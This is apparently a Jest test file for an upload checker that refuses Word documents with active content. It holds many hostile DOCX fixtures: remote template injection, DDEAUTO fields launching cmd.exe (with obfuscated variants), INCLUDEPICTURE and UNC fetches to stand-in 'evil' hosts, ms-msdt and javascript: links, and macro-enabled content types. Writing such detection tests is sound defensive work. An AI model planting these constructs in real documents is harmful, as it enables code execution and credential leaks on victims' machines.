import { describe, expect, it } from '@jest/globals';
import { checkUpload } from './checks.ts';
import { docx } from './samples.fixture.ts';
import { docxParts, type ZipPart, zipOf } from './zip.fixture.ts';

const check = (bytes: Uint8Array) => checkUpload({ name: 'a.docx', bytes, purpose: 'resume' });
const refused = (code: string) => ({ ok: false, code });

const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="r9" Type="${office}/${type}" Target="${target}"${mode}/>`;
const relations = (name: string, ...given: string[]): ZipPart => ({
  name,
  content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${given.join('')}</Relationships>`,
});
/** A document whose body is written by hand. */
const body = (xml: string) => zipOf(docxParts(xml));
const run = (xml: string) => `<w:r>${xml}</w:r>`;
const field = (...instructions: string[]) =>
  `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${instructions
    .map((text) => run(`<w:instrText xml:space="preserve">${text}</w:instrText>`))
    .join(
      '',
    )}${run('<w:fldChar w:fldCharType="separate"/>')}${run('<w:t>1</w:t>')}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`;
const nested = (inner: string, rest: string) =>
  `<w:p>${run('<w:fldChar w:fldCharType="begin"/>')}${field(inner).slice(5, -6)}${run(`<w:instrText>${rest}</w:instrText>`)}${run('<w:fldChar w:fldCharType="end"/>')}</w:p>`;

describe('a document that reaches out of itself', () => {
  it.each<[string, Uint8Array]>([
    [
      'a template elsewhere',
      docx([relations('word/_rels/settings.xml.rels', relation('attachedTemplate', 'http://evil.example/a.dotm'))]),
    ],
    [
      'a template beside it',
      docx([relations('word/_rels/settings.xml.rels', relation('attachedTemplate', 'a.dotm', ''))]),
    ],
    [
      'a template in another spelling',
      docx([relations('word/_rels/settings.xml.rels', relation('ATTACHEDTEMPLATE', 'file://evil/a.dotm'))]),
    ],
    [
      'a picture elsewhere',
      docx([relations('word/_rels/document.xml.rels', relation('image', 'http://evil.example/a.png'))]),
    ],
    [
      'an object elsewhere',
      docx([relations('word/_rels/document.xml.rels', relation('oleObject', 'mhtml:http://evil.example/a.html!x'))]),
    ],
    ['a frame', docx([relations('word/_rels/webSettings.xml.rels', relation('frame', 'http://evil.example'))])],
    ['another document taken in', docx([relations('word/_rels/document.xml.rels', relation('aFChunk', 'a.html', ''))])],
    [
      'a mode written with a reference',
      docx([
        relations(
          'word/_rels/document.xml.rels',
          relation('image', 'http://evil.example', ' TargetMode="&#69;xternal"'),
        ),
      ]),
    ],
    [
      'a link that starts a program',
      docx([relations('word/_rels/document.xml.rels', relation('hyperlink', 'ms-msdt:/id PCWDiagnostic'))]),
    ],
    [
      'a link that is a script',
      docx([relations('word/_rels/document.xml.rels', relation('hyperlink', 'JavaScript:alert(1)'))]),
    ],
    ['an embedded object', docx([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }])],
    ['an embedded object under another name', docx([{ name: 'word/media/object.bin', content: 'x' }])],
    ['an embedded sheet', docx([{ name: 'word/other/a.xlsx', content: 'x' }])],
    ['a web page inside', docx([{ name: 'word/a.html', content: '<html></html>' }])],
    [
      'an object in the text',
      body(
        '<w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Package"/></w:object>',
      ),
    ],
    ['a control', body('<w:control w:name="a"/>')],
    ['a field that starts a program', body(field(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))],
    ['the same over runs', body(field(' D', 'D', 'E c:\\\\cmd.exe', ' "/k calc"'))],
    ['the same in small letters and references', body(field(' &#100;dea&#117;to x y'))],
    ['the same as a simple field', body('<w:p><w:fldSimple w:instr=" DDE x y "/></w:p>')],
    ['the same computed by another field', body(nested(' QUOTE 68 68 69 65 85 84 79 ', ' c:\\\\cmd.exe "/k calc"'))],
    [
      'the same in a header',
      docx([
        {
          name: 'word/header1.xml',
          content: `<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">${field(' DDE x ')}</w:hdr>`,
        },
      ]),
    ],
    ['the same in CDATA', body(field('<![CDATA[DDE x y]]>'))],
    ['a file taken in', body(field(' INCLUDETEXT "\\\\\\\\evil\\\\a.txt" '))],
    ['a picture fetched by a field', body(field(' INCLUDEPICTURE "http://evil.example/a.png" \\d '))],
    ['the same from a computer of the network', body(field(' INCLUDEPICTURE "\\\\\\\\evil\\\\a.png" '))],
    ['the same behind its switches', body(field(' INCLUDEPICTURE \\d \\* MERGEFORMAT https://evil.example/a '))],
    [
      'the same with a computed address',
      body(
        nested(' QUOTE 104 116 116 112 ', ' ').replace(
          'begin"/></w:r><w:r>',
          'begin"/></w:r><w:r><w:instrText>INCLUDEPICTURE </w:instrText></w:r><w:r>',
        ),
      ),
    ],
    ['a field behind many signs that are passed over', body(field(` ${'"'.repeat(40)}\u200b DDEAUTO cmd `))],
    [
      'a field told in the text of runs',
      body(field(' ').replace('<w:instrText xml:space="preserve"> </w:instrText>', '<w:t>DDEAUTO cmd</w:t>')),
    ],
    ['a field that makes words of numbers', body(field(' QUOTE 68 68 69 65 85 84 79 '))],
    ['a field that keeps such a word', body(field(' SET c "INCLUDETEXT x" '))],
    ['a link of a field to a file', body(field(' HYPERLINK "file://evil/a" '))],
    ['a link of a field to a computer of the network', body(field(' HYPERLINK \\o "Note: x" "\\\\\\\\evil\\\\a" '))],
    ['a link of a field that starts a program', body(field(' HYPERLINK "ms-msdt:/id" '))],
    ['a link to a file', docx([relations('word/_rels/document.xml.rels', relation('hyperlink', 'file:///C:/a.exe'))])],
    [
      'a link to a computer of the network',
      docx([relations('word/_rels/document.xml.rels', relation('hyperlink', '\\\\evil\\a'))]),
    ],
    [
      'the same in other signs',
      docx([relations('word/_rels/document.xml.rels', relation('hyperlink', ' %5C%5cevil\\a'))]),
    ],
    ['the same with strokes', docx([relations('word/_rels/document.xml.rels', relation('hyperlink', '//evil/a'))])],
    [
      'a drawing whose picture lies elsewhere',
      body('<w:pict><v:imagedata xmlns:v="v" src="http://evil.example/a.png"/></w:pict>'),
    ],
    [
      'a drawing whose filling lies elsewhere',
      body('<w:pict><v:fill xmlns:v="v" xmlns:o="o" o:href="\\\\evil\\a.png"/></w:pict>'),
    ],
    ['a drawing that leads to a file', body('<w:pict><v:shape xmlns:v="v" href="file://evil/a"/></w:pict>')],
    ['a part that changes the program', docx([{ name: 'customUI/customUI14.xml', content: '<customUI/>' }])],
    ['the same under another name', docx([{ name: 'word/x.xml', content: '<m:customUI xmlns:m="m" onLoad="x"/>' }])],
    [
      'a source of letters',
      docx([
        {
          name: 'word/settings.xml',
          content: '<w:settings xmlns:w="w"><w:mailMerge><w:connectString w:val="x"/></w:mailMerge></w:settings>',
        },
      ]),
    ],
    [
      'a macro-enabled type',
      zipOf(
        docxParts('').map((part) =>
          part.name.startsWith('[')
            ? {
                ...part,
                content: String(part.content).replace(
                  '</Types>',
                  '<Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
                ),
              }
            : part,
        ),
      ),
    ],
    [
      'a picture that is said to be XML',
      zipOf(
        docxParts('').map((part) =>
          part.name.startsWith('[')
            ? {
                ...part,
                content: String(part.content).replace(
                  '</Types>',
                  '<Default Extension="png" ContentType="application/xml"/></Types>',
                ),
              }
            : part,
        ),
      ),
    ],
  ])('by %s is refused', async (_what, bytes) => {
    expect(await check(bytes)).toEqual(refused('file.active_content'));
  });
});

describe('a document that cannot be looked into', () => {
  it.each<[string, string, Uint8Array]>([
    ['XML that is none', 'file.damaged', docx([{ name: 'word/x.xml', content: '<a><b></a>' }])],
    [
      'XML in an encoding of its own',
      'file.security_failed',
      docx([{ name: 'word/x.xml', content: '<?xml version="1.0" encoding="utf-7"?><a/>' }]),
    ],
    [
      'XML that nests without end',
      'file.too_complex',
      docx([{ name: 'word/x.xml', content: `${'<a>'.repeat(1000)}${'</a>'.repeat(1000)}` }]),
    ],
  ])('by %s is refused: %s', async (_what, code, bytes) => {
    expect(await check(bytes)).toEqual(refused(code));
  });
});

describe('an ordinary document', () => {
  it.each<[string, Uint8Array]>([
    [
      'links that one presses',
      docx([
        relations(
          'word/_rels/document.xml.rels',
          relation('hyperlink', 'https://example.com/a?b=c'),
          relation('hyperlink', 'mailto:a@example.com'),
        ),
      ]),
    ],
    [
      'pictures, fonts and printer settings',
      docx([
        { name: 'word/media/image1.png', content: 'x' },
        { name: 'word/fonts/font1.odttf', content: 'x' },
        { name: 'word/printerSettings1.bin', content: 'x' },
      ]),
    ],
    [
      'fields of every day',
      body(
        field(' PAGE ') +
          field(' HYPERLINK "https://example.com" ') +
          field(' TOC \\o "1-3" ') +
          field(' INCLUDEPICTURE "C:\\\\Users\\\\wang\\\\wps1.png" \\* MERGEFORMAT ') +
          field(' HYPERLINK \\l "_Toc1" ') +
          field(' HYPERLINK "mailto:a@example.com" \\o "Mail: a" ') +
          field(' SET name "王晨" ') +
          nested(' PAGE ', ' + 1').replace(
            'begin"/></w:r><w:r>',
            'begin"/></w:r><w:r><w:instrText>= </w:instrText></w:r><w:r>',
          ),
      ),
    ],
    [
      'a drawing of its own',
      body(
        '<w:pict><v:shape xmlns:v="v" href="https://example.com"><v:imagedata src="" title="a"/></v:shape></w:pict>',
      ),
    ],
    ['a name that begins like such a field', body(field(' LINKEDIN '))],
  ])('with %s is taken', async (_what, bytes) => {
    expect(await check(bytes)).toMatchObject({ ok: true });
  });
});
